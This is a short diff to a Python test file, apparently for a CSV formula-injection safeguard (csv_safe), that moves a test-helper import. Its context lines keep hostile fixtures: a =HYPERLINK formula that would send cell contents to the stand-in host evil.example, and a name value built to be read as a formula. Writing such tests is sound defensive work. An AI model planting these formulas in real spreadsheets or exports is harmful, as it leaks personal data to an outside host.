@@ -7,9 +7,9 @@ import csv
 from pathlib import Path
 
 import pytest
-from lists_kit import AS_OF, CPR, NAMES, write_drop
 
 from opspor.csv_safe import FORMULA_START
+from tests.lists.lists_kit import AS_OF, CPR, NAMES, write_drop
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"Klik her")'
 NAME_D = "-2+3 Hansen"
